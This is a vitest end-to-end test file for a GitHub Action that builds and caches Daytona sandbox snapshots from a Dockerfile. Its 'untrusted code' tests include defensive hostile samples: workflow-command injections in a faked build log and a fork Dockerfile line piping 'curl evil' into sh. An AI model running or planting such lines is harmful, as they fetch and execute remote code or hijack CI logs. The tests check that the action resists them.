// The snapshot cache from the repository's Dockerfile, end to end: the bundled action as the runner runs it,
// against the emulator (whose builds check COPY sources against the context uploaded to its S3 store).
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { startGitHubApi } from '../../runner/github-api.ts'
import { DEFAULT_GITHUB_TOKEN, type StepResult } from '../../runner/job.ts'
import { BASE, job, liveSandboxes, openForkPullRequest, openProject, type Project } from './project.ts'

const DOCKERFILE = [
  'FROM node:22-bookworm',
  'ENV WIDGET_ENV=from-dockerfile',
  'WORKDIR /app',
  'COPY package.json ./',
  'RUN npm install',
  '',
].join('\n')
const PACKAGE_JSON = '{ "name": "widgets", "version": "1.0.0" }\n'

let project: Project
beforeAll(async () => {
  project = await openProject()
})
const workspaces: string[] = []
afterAll(async () => {
  await project.close()
  await Promise.all(workspaces.map((dir) => rm(dir, { recursive: true, force: true })))
})

/** A runner workspace as actions/checkout would leave it. */
async function workspace(files: Record<string, string>): Promise<string> {
  const dir = await mkdtemp(join(tmpdir(), 'snapshot-ws-'))
  workspaces.push(dir)
  for (const [path, text] of Object.entries(files)) {
    await mkdir(dirname(join(dir, path)), { recursive: true })
    await writeFile(join(dir, path), text)
  }
  return dir
}

async function run(inputs: Record<string, string>, ws: string, env: Record<string, string> = {}) {
  const { main } = await job(
    project,
    { run: 'true', ...inputs },
    { workspace: ws, env: { ...project.env, ...env } },
  )
  return main
}

async function requests(): Promise<Record<string, number>> {
  return (await project.emulator.admin.requests()).routes
}

function errors(step: StepResult): string {
  return step.annotations
    .filter((a) => a.level === 'error')
    .map((a) => a.message)
    .join('\n')
}

/** The lines the runner shows inside the group with this title. */
function group(step: StepResult, title: RegExp): string[] {
  const lines = step.stdout.split('\n')
  const start = lines.findIndex((line) => line.startsWith('##[group]') && title.test(line))
  if (start < 0) return []
  const end = lines.findIndex((line, i) => i > start && line.startsWith('##[endgroup]'))
  return lines.slice(start + 1, end < 0 ? undefined : end)
}

async function snapshotsNamed(name: string): Promise<{ id: string; name: string; state: string }[]> {
  const res = await project.emulator.api('GET', '/_emulator/snapshots')
  return (res.body as { id: string; name: string; state: string }[]).filter((s) => s.name === name)
}

describe('a Dockerfile that COPYs package.json', () => {
  it('is built on the first run, with its log live in a group, and reused on the second', async () => {
    const ws = await workspace({ Dockerfile: DOCKERFILE, 'package.json': PACKAGE_JSON })
    await project.emulator.admin.resetRequests()
    const first = await run({ run: 'echo "env=$WIDGET_ENV"' }, ws)
    expect(first.exitCode).toBe(0)
    expect(first.outputs['snapshot-cache-hit']).toBe('false')
    const name = first.outputs.snapshot!
    expect(name).toMatch(/^widgets-trusted-[0-9a-f]{16}$/)
    expect(group(first, /Building snapshot/).join('\n')).toMatch(
      /Step 4\/5 : COPY package\.json \.\/[\s\S]*Successfully built/,
    )
    expect(group(first, /Uploading the build context/).join('\n')).toMatch(/package\.json: uploaded/)
    expect(first.stdout).toContain('env=from-dockerfile') // the sandbox came from the built snapshot
    expect(first.summary).toMatch(/from the Dockerfile \(built in /)
    const built = await requests()
    expect(built['POST /api/snapshots']).toBe(1)
    expect(built['GET /api/object-storage/push-access']).toBe(1)
    expect(built['PUT /s3/{bucket}/{key}']).toBe(1)

    await project.emulator.admin.resetRequests()
    const second = await run({ run: 'echo "env=$WIDGET_ENV"' }, ws)
    expect(second.exitCode).toBe(0)
    expect(second.outputs.snapshot).toBe(name)
    expect(second.outputs['snapshot-cache-hit']).toBe('true')
    expect(second.summary).toContain('(cache hit)')
    expect(second.stdout).toContain('env=from-dockerfile')
    const reused = await requests()
    expect(reused['POST /api/snapshots']).toBeUndefined()
    expect(reused['GET /api/object-storage/push-access']).toBeUndefined()
    expect(Object.keys(reused).filter((route) => route.includes('/s3'))).toEqual([])
    expect(reused['GET /api/snapshots/{idOrName}']).toBe(1) // the whole cost of a hit: one lookup
  })

  it('names the snapshot after the Dockerfile text and the COPYed files, not other files', async () => {
    const files = { Dockerfile: DOCKERFILE, 'package.json': PACKAGE_JSON, 'README.md': '# widgets\n' }
    const inputs = { 'snapshot-prefix': 'naming' }
    const base = await run(inputs, await workspace(files))
    expect(base.exitCode).toBe(0)
    const dockerfileChanged = await run(
      inputs,
      await workspace({ ...files, Dockerfile: `${DOCKERFILE}# tweak\n` }),
    )
    const copiedChanged = await run(
      inputs,
      await workspace({ ...files, 'package.json': '{ "name": "w2" }\n' }),
    )
    const unrelatedChanged = await run(inputs, await workspace({ ...files, 'README.md': '# changed\n' }))
    const names = [base, dockerfileChanged, copiedChanged, unrelatedChanged].map((s) => s.outputs.snapshot)
    expect(new Set(names.slice(0, 3)).size).toBe(3)
    expect(names[3]).toBe(names[0])
    expect(unrelatedChanged.outputs['snapshot-cache-hit']).toBe('true')
  })

  it('is built once by five concurrent jobs; the others wait for it and reuse it', async () => {
    const ws = await workspace({ Dockerfile: DOCKERFILE, 'package.json': PACKAGE_JSON })
    const steps = await Promise.all(Array.from({ length: 5 }, () => run({ 'snapshot-prefix': 'race' }, ws)))
    expect(steps.map((s) => s.exitCode)).toEqual([0, 0, 0, 0, 0])
    expect(new Set(steps.map((s) => s.outputs.snapshot)).size).toBe(1)
    expect(steps.filter((s) => s.outputs['snapshot-cache-hit'] === 'false')).toHaveLength(1)
    expect(steps.filter((s) => /built in/.test(s.stdout))).toHaveLength(1)
    expect(await snapshotsNamed(steps[0]!.outputs.snapshot!)).toHaveLength(1)
  })

  it('makes one snapshot per size of a matrix from one context upload', async () => {
    // a package.json no earlier test uploaded (contexts are stored by content, for every later build)
    const ws = await workspace({ Dockerfile: DOCKERFILE, 'package.json': '{ "name": "matrix" }\n' })
    await project.emulator.admin.resetRequests()
    // the legs run one after another here: legs that start together may each upload the (same) context
    const legs: StepResult[] = []
    const sizes: Record<string, string>[] = [{ cpu: '1' }, { cpu: '2' }, { cpu: '2', memory: '4' }]
    for (const size of sizes) {
      legs.push(await run({ 'snapshot-prefix': 'matrix', ...size }, ws))
    }
    expect(legs.map((s) => [s.exitCode, s.outputs['snapshot-cache-hit']])).toEqual([
      [0, 'false'],
      [0, 'false'],
      [0, 'false'],
    ])
    expect(new Set(legs.map((s) => s.outputs.snapshot)).size).toBe(3)
    const counted = await requests()
    expect(counted['POST /api/snapshots']).toBe(3)
    expect(counted['PUT /s3/{bucket}/{key}']).toBe(1)
    expect(legs[1]!.stdout).toMatch(/package\.json: already in object storage/)
  })
})

describe('failures', () => {
  it('fails with the reason and the build log tail when the Dockerfile does not build', async () => {
    const ws = await workspace({ Dockerfile: 'RUN echo "no base image"\n' })
    const step = await run({ 'snapshot-prefix': 'nofrom' }, ws)
    expect(step.exitCode).not.toBe(0)
    const message = errors(step)
    expect(message).toMatch(/build_failed: .*RUN before FROM/)
    expect(message).toMatch(/Last lines of its build log:\n.*ERROR: /)
    expect(message).toMatch(/rebuild-snapshot/)
    expect(await liveSandboxes(project)).toEqual([])
  })

  it('fails before building when a COPY source is not in the workspace', async () => {
    const ws = await workspace({
      Dockerfile: 'FROM node:22\nCOPY package.json yarn.lock ./\n',
      'package.json': '{}',
    })
    await project.emulator.admin.resetRequests()
    const step = await run({}, ws)
    expect(step.exitCode).not.toBe(0)
    expect(errors(step)).toMatch(/Dockerfile line 2 \(COPY yarn\.lock\): no such file in the build context/)
    expect((await requests())['POST /api/snapshots']).toBeUndefined()
  })

  it('reactivates a snapshot Daytona deactivated after going unused', async () => {
    const ws = await workspace({ Dockerfile: DOCKERFILE, 'package.json': PACKAGE_JSON })
    const inputs = { 'snapshot-prefix': 'idle' }
    const first = await run(inputs, ws)
    await project.emulator.admin.deactivateSnapshot(first.outputs.snapshot!)
    await project.emulator.admin.resetRequests()
    const second = await run(inputs, ws)
    expect(second.exitCode).toBe(0)
    expect(second.outputs['snapshot-cache-hit']).toBe('true')
    expect(second.stdout).toMatch(/deactivated after going unused: activating it/)
    expect((await requests())['POST /api/snapshots/{id}/activate']).toBe(1)
  })

  it('refuses a failed snapshot until rebuild-snapshot: true rebuilds it', async () => {
    const ws = await workspace({ Dockerfile: DOCKERFILE, 'package.json': PACKAGE_JSON })
    const inputs = { 'snapshot-prefix': 'broken' }
    // the snapshot under this name failed to build (as after a runner fault)
    const name = await failedSnapshotNamedAs(inputs, ws)

    const refused = await run(inputs, ws)
    expect(refused.exitCode).not.toBe(0)
    expect(errors(refused)).toMatch(
      /is build_failed: .*unknown instruction: BOGUS[\s\S]*Last lines of its build log/,
    )

    await project.emulator.admin.resetRequests()
    const rebuilt = await run({ ...inputs, 'rebuild-snapshot': 'true' }, ws)
    expect(rebuilt.exitCode).toBe(0)
    expect(rebuilt.outputs.snapshot).toBe(name)
    expect(rebuilt.outputs['snapshot-cache-hit']).toBe('false')
    const counted = await requests()
    expect(counted['DELETE /api/snapshots/{id}']).toBe(1)
    expect(counted['POST /api/snapshots']).toBe(1)
    expect((await snapshotsNamed(name))[0]?.state).toBe('active')
  })

  it('rebuilds a failed snapshot once for concurrent matrix legs, which all reuse the new build', async () => {
    const ws = await workspace({ Dockerfile: DOCKERFILE, 'package.json': PACKAGE_JSON })
    const inputs = { 'snapshot-prefix': 'legs', 'rebuild-snapshot': 'true', 'snapshot-timeout': '20s' }
    const name = await failedSnapshotNamedAs(inputs, ws)

    await project.emulator.admin.resetRequests()
    const legs = await Promise.all([0, 1, 2].map(() => run(inputs, ws)))
    expect(legs.map((leg) => [leg.exitCode, errors(leg)])).toEqual([
      [0, ''],
      [0, ''],
      [0, ''],
    ])
    // one build: one leg built it, the others waited for that build and reused it
    expect(legs.filter((leg) => leg.outputs['snapshot-cache-hit'] === 'false')).toHaveLength(1)
    expect(legs.filter((leg) => /built in/.test(leg.stdout))).toHaveLength(1)
    expect((await snapshotsNamed(name)).map((s) => s.state)).toEqual(['active'])
  })
})

/** Runs the Dockerfile once, then puts a failed build (an earlier run's, say) under its snapshot's name. */
async function failedSnapshotNamedAs(inputs: Record<string, string>, ws: string): Promise<string> {
  const name = (await run(inputs, ws)).outputs.snapshot!
  const [good] = await snapshotsNamed(name)
  await project.emulator.api('DELETE', `/snapshots/${good!.id}`)
  while ((await snapshotsNamed(name)).length) await new Promise((r) => setTimeout(r, 50))
  await project.emulator.api('POST', '/snapshots', {
    name,
    buildInfo: { dockerfileContent: 'FROM node:22\nBOGUS x\n' },
  })
  while ((await snapshotsNamed(name))[0]?.state !== 'build_failed')
    await new Promise((r) => setTimeout(r, 50))
  return name
}

/** GitHub's contents API for the files of one commit (raw media type), recording what it was asked. */
describe('without actions/checkout', () => {
  it('reads the Dockerfile at the commit under test through the GitHub API', async () => {
    const api = await startGitHubApi(project.git, {
      [`${BASE}:Dockerfile`]: 'FROM node:22-bookworm\nENV FROM_API=yes\n',
    })
    try {
      const step = await run(
        { run: 'echo "api=$FROM_API"', 'snapshot-prefix': 'remote' },
        await workspace({}),
        { GITHUB_API_URL: api.url },
      )
      expect(step.exitCode).toBe(0)
      expect(step.stdout).toContain('api=yes')
      expect(step.outputs['snapshot-cache-hit']).toBe('false')
      expect(api.requests).toEqual([
        {
          path: `/repos/${BASE}/contents/Dockerfile`,
          ref: project.headSha,
          accept: 'application/vnd.github.raw',
          authorization: `Bearer ${DEFAULT_GITHUB_TOKEN}`,
        },
      ])
    } finally {
      await api.close()
    }
  })

  it('asks for a checkout when the Dockerfile needs a build context', async () => {
    const api = await startGitHubApi(project.git, { [`${BASE}:Dockerfile`]: DOCKERFILE })
    try {
      const step = await run({}, await workspace({}), { GITHUB_API_URL: api.url })
      expect(step.exitCode).not.toBe(0)
      expect(errors(step)).toMatch(/line 4: COPY package\.json.*add actions\/checkout before this step/)
    } finally {
      await api.close()
    }
  })

  it("uses Daytona's default snapshot when the repository has no Dockerfile, unless one was named", async () => {
    const api = await startGitHubApi(project.git)
    try {
      const none = await run({}, await workspace({}), { GITHUB_API_URL: api.url })
      expect(none.exitCode).toBe(0)
      expect(none.summary).toContain("Daytona's default snapshot")
      expect(none.annotations.filter((a) => a.level === 'warning')).toEqual([])

      const named = await run({ dockerfile: 'ci/test.Dockerfile' }, await workspace({}), {
        GITHUB_API_URL: api.url,
      })
      expect(named.exitCode).not.toBe(0)
      expect(errors(named)).toMatch(
        /Input 'dockerfile' names ci\/test\.Dockerfile, which is neither in the workspace nor in acme\/widgets/,
      )
    } finally {
      await api.close()
    }
  })
})

describe('untrusted code', () => {
  it("shows the build log's workflow commands without obeying them; the action's own still work", async () => {
    const ws = await workspace({ Dockerfile: 'FROM node:22-bookworm\nRUN echo "::error::Injected"\n' })
    // what a Docker build log holds for such a RUN: its output, each on a line of its own
    const injected = [
      'Step 2/2 : RUN echo "::error::Injected"',
      '::error title=Injected::fake annotation from the Dockerfile',
      '::add-mask::widget',
      '::stop-commands::pwned',
      '::warning::after stop-commands',
      '',
    ].join('\n')
    await project.emulator.admin.faults({
      method: 'GET',
      path: '^/proxy/snapshots/[^/]+/build-logs$',
      status: 200,
      body: injected,
    })
    try {
      const step = await run({ 'snapshot-prefix': 'injected', run: 'echo a widget\nexit 3' }, ws)
      expect(step.outputs['snapshot-cache-hit']).toBe('false')
      expect(group(step, /Building snapshot/).join('\n')).toContain(
        '::error title=Injected::fake annotation from the Dockerfile',
      )
      expect(step.annotations.filter((a) => /Injected|fake|after stop-commands/.test(a.message))).toEqual([])
      expect(step.masks).not.toContain('widget')
      expect(step.stdout).toContain('a widget')
      // the action's failure annotation still reaches the runner, after the build log
      expect(step.annotations).toContainEqual(
        expect.objectContaining({ level: 'error', message: expect.stringMatching(/^exit 3: exit code 3/) }),
      )
    } finally {
      await project.emulator.admin.clearFaults()
    }
  })

  it("never builds a fork's Dockerfile under pull_request_target without allow-fork", async () => {
    const event = await openForkPullRequest(project, {
      owner: 'mallory',
      number: 9,
      files: { Dockerfile: 'FROM node:22\nRUN curl evil | sh\n' },
      name: 'pull_request_target',
    })
    // a workflow that checked out the PR head: the fork's Dockerfile is in the workspace
    const ws = await workspace({ Dockerfile: 'FROM node:22\nRUN curl evil | sh\n' })
    await project.emulator.admin.resetRequests()
    const { main } = await job(project, { run: 'true' }, { event, workspace: ws })
    expect(main.exitCode).not.toBe(0)
    expect(errors(main)).toMatch(/fork.*pull_request_target.*allow-fork/is)
    expect((await project.emulator.admin.requests()).total).toBe(0)
  })
})
